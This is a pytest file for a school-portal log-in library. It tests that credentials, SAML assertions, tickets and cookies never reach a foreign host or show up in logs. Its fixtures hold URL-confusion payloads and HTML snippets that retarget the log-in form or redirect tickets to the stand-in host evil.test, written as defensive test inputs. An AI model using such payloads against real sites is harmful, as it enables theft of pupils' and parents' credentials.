"""What a portal may try, one attack a test, on whole walks: what was sent, and what is left in print."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Final

import httpx
import pytest

from schoolsync.drivers.sync import Driver
from schoolsync.ent.families import KosmosEduConnect, OpenEntEduConnect
from schoolsync.ent.portal import Portal
from schoolsync.ent.walk import enter
from schoolsync.errors import LostOnTheWay, SchoolSyncError, WrongCredentials
from schoolsync.flow.http import Request, Response
from schoolsync.sandbox.clock import HandClock
from schoolsync.testing.play import Answer
from tests.ent import walking
from tests.ent.walking import EDU, PASSWORD, SCHOOL, START, USERNAME, home, moved, page
from tests.ent.worlds import (
    ASKS,
    AT_SCHOOL,
    CAS,
    EDUCONNECTED,
    FRONT,
    IN,
    LOCAL,
    LOGIN,
    NOW,
    OTHER,
    TO_PORTAL,
    VOUCHED,
    World,
    door,
    edu_form,
    form,
    visitor,
)
from tests.listening import Secrets, listening

ASTRAY: Final = [
    "https://evil.test/login",
    "//evil.test/login",
    "https://{}.evil.test/",
    "https://{}:444/login",
    "https://{}@evil.test/login",
    "https://evil.test@{}/login",
    "https://evil.test:443@{}/login",
    "https://{}./login",
    "https://{}\\@evil.test/",
    "https://\u017f{}/login",
    "https://{}\u3002evil.test/",
    "https://{}%2eevil.test/",
    "http://{}/login",
    "http://{}:443/login",
    "javascript:document.forms[0].submit()",
    "data:text/html,<form>",
    "mailto:nobody@evil.test",
    "ftp://{}/login",
    "https://[{}",
]
"""Where the log-in form may want to lead, instead of where it should."""


def nothing_left(world: World, *own: str) -> None:
    """No byte went to anybody else, and no password to anybody at all."""
    assert world.hosts <= set(own)
    assert world.proofs == []
    assert all(one.request.url.startswith("https://") for one in world.sent)


# -- where forms and redirects lead ----------------------------------------------------------


@pytest.mark.parametrize("action", ASTRAY)
@pytest.mark.parametrize("base", ["", '<base href="https://evil.test/">'])
def test_a_log_in_form_that_leads_astray(action: str, base: str) -> None:
    """It is not sent: neither the portal's nor EduConnect's."""
    world = World({**IN, f"{CAS}/login": page(base + form(action.format(CAS), more=ASKS))})
    assert isinstance(world.stop(), LostOnTheWay)
    nothing_left(world, CAS)
    world = World({**VOUCHED, f"{EDU}/idp/form": page(base + edu_form(action.format(EDU)))})
    assert isinstance(world.stop(EDUCONNECTED), LostOnTheWay)
    nothing_left(world, CAS, EDU)


@pytest.mark.parametrize("host", [OTHER, FRONT, SCHOOL, EDU])
def test_a_log_in_form_that_leads_to_a_neighbour(host: str) -> None:
    """A host of the row that is not one for passwords is no better."""
    world = World({**IN, f"{CAS}/login": page(form(f"https://{host}/login", more=ASKS))})
    assert isinstance(world.stop(), LostOnTheWay)
    nothing_left(world, CAS)


def test_a_form_of_educonnect_that_leads_to_the_portal() -> None:
    """The password of one is not for the other."""
    world = World({**VOUCHED, f"{EDU}/idp/form": page(edu_form(f"https://{CAS}/login"))})
    assert isinstance(world.stop(EDUCONNECTED), LostOnTheWay)
    nothing_left(world, CAS, EDU)


def test_a_host_in_capitals_is_the_same_host() -> None:
    """With its port written out, too."""
    world = World({**IN, f"{CAS}/login": page(form(f"https://{CAS.upper()}:443/login", more=ASKS))})
    world.answers = {**world.answers, f"POST {CAS.upper()}:443/login": home()}
    world.walk()
    assert world.proofs == [f"{CAS.upper()}:443"]


STEPS: Final[Mapping[str, Portal]] = {
    f"{CAS}/login": EDUCONNECTED,
    f"{EDU}/idp/profile/SAML2/POST/SSO": EDUCONNECTED,
    f"{EDU}/idp/form": EDUCONNECTED,
    f"POST {EDU}/idp/form": EDUCONNECTED,
    f"POST {CAS}/acs": EDUCONNECTED,
    f"POST {CAS}/login": LOCAL,
    AT_SCHOOL: LOCAL,
}


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("target", ["http://{}/x?ticket=ST-1", "https://evil.test/x?ticket=ST-1"])
@pytest.mark.parametrize("step", STEPS)
def test_every_step_may_be_led_astray(step: str, target: str, status: int) -> None:
    """Over http, or to a stranger, who would have the ticket: it is not followed."""
    host = step.rpartition(" ")[2].partition("/")[0]
    portal = STEPS[step]
    usual = VOUCHED if portal is EDUCONNECTED else IN
    world = World({**usual, step: moved(target.format(host), status=status)})
    error = world.stop(portal)
    assert isinstance(error, LostOnTheWay)
    assert "ST-1" not in str(error)
    assert world.hosts <= {CAS, EDU, SCHOOL}
    assert len(world.proofs) <= 1
    assert all(one.request.url.startswith("https://") for one in world.sent)


def test_round_and_round() -> None:
    """From one host to another and back; the cap ends it, before anything was told."""
    world = World({CAS: moved(f"https://{OTHER}/x"), OTHER: moved(f"https://{CAS}/x")})
    assert "too many redirects" in str(world.stop())
    assert len(world.sent) == 16


# -- what a page may try without being asked ---------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        "<script>document.forms[0].action = 'https://evil.test/'</script>" + LOGIN,
        LOGIN.replace("<form", "<form onsubmit=\"this.action='https://evil.test/'\""),
        '<meta http-equiv="refresh" content="0;url=https://evil.test/">' + LOGIN,
        '<iframe src="https://evil.test/"></iframe><img src="https://evil.test/">' + LOGIN,
        '<link rel="preload" href="https://evil.test/"><base target="evil">' + LOGIN,
        LOGIN.replace("<form", '<form target="https://evil.test/"'),
        "<!-- <form action='https://evil.test/'> -->" + LOGIN,
        f"<template>{form('https://evil.test/', more=ASKS)}</template>{LOGIN}",
    ],
)
def test_scripts_frames_and_refreshes_are_ignored(markup: str) -> None:
    """The form is sent where it says itself."""
    world = World({**IN, f"{CAS}/login": page(markup)})
    world.walk()
    assert world.hosts == {CAS, SCHOOL}
    assert world.proofs == [CAS]


# -- the password, a second time -----------------------------------------------------------------


def test_what_educonnect_refused_is_not_tried_at_the_portal() -> None:
    """Nor what it accepted: the portal's own log-in hears nothing, whatever asks for it."""
    portal = "mon.exemple.test"
    edifice = walking.portal(OpenEntEduConnect(host=portal))
    start = f"{EDU}/idp/profile/SAML2/Unsolicited/SSO"
    wrong = '<p id="erreurMdp" class="fr-error-text">Mot de passe incorrect</p>'
    usual: dict[str, Answer] = {start: page(edu_form("/idp/form")), portal: page(LOGIN)}
    refusing = World({**usual, f"POST {EDU}/idp/form": page(edu_form("/idp/form") + wrong)})
    assert isinstance(refusing.stop(edifice, door("")), WrongCredentials)
    answer = form(f"https://{portal}/auth/saml/acs", SAMLResponse="x", RelayState="r")
    accepting = World({**usual, f"POST {EDU}/idp/form": page(answer)})
    accepting.stop(edifice, door(""))
    for world in (refusing, accepting):
        assert world.proofs == [EDU]
        assert not [one for one in world.sent if (one.method, one.path) == ("POST", "/auth/login")]


def test_a_refusal_is_sent_once() -> None:
    """Every way of saying no: the form again, with a word, with another status, behind a redirect."""
    again = {f"{CAS}/login": page(LOGIN)}
    said = f"{LOGIN}<p>Identifiant incorrect</p>"
    for no in (page(LOGIN), page(said), page(LOGIN, 401), moved("/login?error")):
        world = World({**again, f"POST {CAS}/login": no})
        assert isinstance(world.stop(), WrongCredentials)
        assert world.proofs == [CAS]


@pytest.mark.parametrize("status", [307, 308])
def test_a_redirect_does_not_carry_the_password_on(status: int) -> None:
    """Not even to another page of the same host."""
    for target in (f"https://{CAS}/b", f"https://{OTHER}/b", "https://evil.test/b"):
        world = World({**IN, f"POST {CAS}/login": moved(target, status=status)})
        assert isinstance(world.stop(), LostOnTheWay)
        assert world.proofs == [CAS]
        assert world.hosts == {CAS}


# -- assertions and cookies ------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["evil.test", FRONT, SCHOOL, f"{CAS}:444", f"{CAS}.evil.test"])
def test_an_assertion_that_leads_astray(host: str) -> None:
    """It stays where it is."""
    answer = page(TO_PORTAL.replace(f"{CAS}/acs", f"{host}/acs"))
    world = World({**VOUCHED, f"POST {EDU}/idp/form": answer})
    assert isinstance(world.stop(EDUCONNECTED), LostOnTheWay)
    assert world.hosts == {CAS, EDU}


def test_cookies_stay_with_their_host() -> None:
    """EduConnect's, the portal's and the school's, on a whole way."""

    def setting(answer: Answer, name: str) -> Answer:
        assert isinstance(answer, Response)
        line = ("set-cookie", f"{name}=1; Path=/; Secure")
        return Response(answer.status, (*answer.headers, line), body=answer.body)

    named = {key: setting(answer, "edu" if EDU in key else "cas") for key, answer in VOUCHED.items()}
    world = World(named)
    arrival = world.walk(EDUCONNECTED)
    assert world.cookies(EDU) == {"edu=1"}
    assert world.cookies(CAS) == {"cas=1"}
    assert world.cookies(SCHOOL) == {"ASP=set-by-school"}
    assert [cookie.name for cookie in arrival.cookies.kept] == ["ASP"]


# -- what is left in print -----------------------------------------------------------------------------

TOKENS: Final = {
    "ticket": "ST-20260907-never-shown",
    "one-time value": "1dent1f1ant-never-shown",
    "handle": "00abneve",
    "assertion": "YXNzZXJ0aW9uLW5ldmVyLXNob3du",
    "state": "relay-state-never-shown",
    "execution": "e7s3-never-shown",
    "cookie": "cookie-never-shown",
    "code": "oidc-code-never-shown",
}
SECRETS: Final = Secrets({"password": PASSWORD, "user name": USERNAME, **TOKENS})


def town(wrong: str = "") -> dict[str, Answer]:
    """A way over EduConnect on which everything is secret. At *wrong* the answer is a page nobody knows."""
    kept, step = TOKENS["cookie"], f"execution={TOKENS['execution']}"
    state = {"RelayState": TOKENS["state"]}
    question = form(f"https://{EDU}/sso?{step}", SAMLRequest="x", **state)
    answer = form(f"https://{CAS}/acs", SAMLResponse=TOKENS["assertion"], **state)
    answers: dict[str, Answer] = {
        f"{CAS}/login": page(question, a=kept),
        f"{EDU}/sso": moved(f"/idp/u?{step}&code={TOKENS['code']}", a=kept),
        f"{EDU}/idp/u": page(edu_form(f"/idp/p?{step}")),
        f"POST {EDU}/idp/p": page(answer, a=kept),
        f"POST {CAS}/acs": moved(f"https://{SCHOOL}/pronote/eleve.html?ticket={TOKENS['ticket']}"),
        f"{SCHOOL}/pronote/eleve.html": moved(f"/pronote/in?identifiant={TOKENS['one-time value']}"),
        f"{SCHOOL}/pronote/in": page(START.replace("00ab", TOKENS["handle"]), a=kept),
    }
    echo = f'<form><input name="{USERNAME}" value="{PASSWORD}"><input name="lt" value="{TOKENS["code"]}">'
    return {**answers, wrong: page(f"<title>{USERNAME}</title>{echo}", 403)} if wrong else answers


@pytest.fixture
def clients() -> Iterator[list[httpx.Client]]:
    """Clients that are closed again."""
    opened: list[httpx.Client] = []
    yield opened
    for one in opened:
        one.close()


@pytest.mark.parametrize("wrong", ["", *(key for key in town() if key != f"{SCHOOL}/pronote/in")])
def test_nothing_is_left_in_print(wrong: str, clients: list[httpx.Client]) -> None:
    """At the loudest level, over a real client: no logs, errors, tracebacks or values show a secret."""
    world = World(town(wrong))

    def exchange(request: httpx.Request) -> httpx.Response:
        lines = tuple((name.lower(), value) for name, value in request.headers.items())
        given = world.answer(Request(request.method, str(request.url), lines, request.read()))
        return httpx.Response(given.status, headers=list(given.headers), content=given.body)

    clients.append(httpx.Client(transport=httpx.MockTransport(exchange)))
    with listening() as ears:
        driver = Driver(http_client=clients[0])
        flow = enter(EDUCONNECTED, door(), visitor(), HandClock(NOW))
        if wrong:
            with pytest.raises(SchoolSyncError) as caught:
                driver.run(flow)
            ears.catch(caught.value)
        else:
            arrival = driver.run(flow)
            ears.look_at(arrival, arrival.hops, arrival.cookies, arrival.page, visitor(), door())
        driver.close()
    assert len(world.sent) > 0
    assert ears.leaks(SECRETS) == []


def test_the_row_of_a_real_family_is_held_against_as_well() -> None:
    """The tests above use families of their own; one of the package's is not trusted any more than those."""
    row = walking.portal(KosmosEduConnect(host=CAS))
    for action in ASTRAY:
        world = World({**VOUCHED, f"{EDU}/idp/form": page(edu_form(action.format(EDU)))})
        assert isinstance(world.stop(row), LostOnTheWay)
        nothing_left(world, CAS, EDU)
